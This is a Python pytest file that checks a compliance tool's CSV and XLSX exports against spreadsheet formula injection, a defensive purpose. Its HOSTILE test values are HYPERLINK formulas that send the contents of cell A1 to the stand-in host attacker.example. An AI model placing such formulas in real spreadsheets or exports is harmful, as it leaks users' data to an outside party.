"""CSV and XLSX exports never hand a spreadsheet a formula: text starting with = + - @ tab CR."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from ccpa_readiness.evidence.datastores.datamap.model import DataMap, MapSystem
from ccpa_readiness.evidence.datastores.datamap.xlsx import write_xlsx
from ccpa_readiness.review.export import to_csv
from ccpa_readiness.review.record import RecordRow
from ccpa_readiness.spreadsheet import FORMULA_PREFIXES, safe_cell

HOSTILE = [f'{prefix}HYPERLINK("http://attacker.example/?"&A1,"details")' for prefix in FORMULA_PREFIXES]


@pytest.mark.parametrize("value", HOSTILE)
def test_signoff_csv_quotes_every_formula_prefix(value: str) -> None:
    row = RecordRow(
        1, "ab" * 32, "IT", "it@example.com", "request_changes", value, dt.datetime(2026, 12, 1), True
    )
    [parsed] = list(csv.DictReader(io.StringIO(to_csv([row]))))
    assert parsed["reason"] == "'" + value
    assert parsed["department"] == "IT" and parsed["version"] == "1"  # the rest as it was


def test_plain_text_and_numbers_stay_as_they_are() -> None:
    assert safe_cell("Legal agrees") == "Legal agrees"
    assert safe_cell(-5) == -5 and safe_cell(None) is None


def test_datamap_workbook_holds_formulas_as_text(tmp_path: Path) -> None:
    systems = [
        MapSystem(
            id=f"s{i}", name=value, declared=False, hosted_by=None, stores=[], categories=[],
            undeclared_categories=[], vendors=[],
        )
        for i, value in enumerate(HOSTILE)
    ]  # fmt: skip
    write_xlsx(DataMap(systems=systems), tmp_path / "datamap.xlsx")
    with zipfile.ZipFile(tmp_path / "datamap.xlsx") as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet for sheet in sheets)
    workbook = openpyxl.load_workbook(tmp_path / "datamap.xlsx")
    names = [
        str(cell.value).replace("_x000D_", "\r") for cell in workbook["Systems"]["B"][1:]
    ]  # OOXML escape
    assert names == HOSTILE and all(cell.data_type == "s" for cell in workbook["Systems"]["B"][1:])
